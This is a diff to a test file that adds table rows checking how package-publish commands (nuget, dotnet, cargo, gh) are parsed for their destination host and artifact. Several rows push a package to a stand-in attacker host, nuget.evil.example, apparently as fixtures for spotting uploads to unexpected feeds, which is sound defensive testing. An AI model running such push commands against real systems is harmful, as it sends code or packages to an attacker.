@@ -121,6 +121,16 @@ describe('push-tool table', () => {
         'x.nupkg',
       ],
       ['/usr/bin/nuget', 'push x.nupkg -so https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
+      ['/usr/bin/nuget', 'push x.nupkg -src https://nuget.evil.example/v3/index.json', 'nuget.evil.example', 'x.nupkg'],
+      [
+        '/usr/bin/nuget',
+        'push x.nupkg -Source- https://nuget.evil.example/v3/index.json',
+        'nuget.evil.example',
+        'x.nupkg',
+      ],
+      // A source that merely looks relative may be a name in NuGet.config: a push, the first connect decides.
+      ['/usr/bin/dotnet', 'nuget push x.nupkg -s feeds/corp', null, 'x.nupkg'],
+      ['/usr/local/bin/cargo', 'publish --index file:///srv/index', null, null],
       // A host flag's value is the host, with or without a dot.
       ['/usr/bin/gh', 'api --hostname ghe -X POST repos/a/b/issues', 'ghe', 'repos/a/b/issues'],
       ['/usr/bin/nuget', 'push x.nupkg', 'api.nuget.org', 'x.nupkg'],
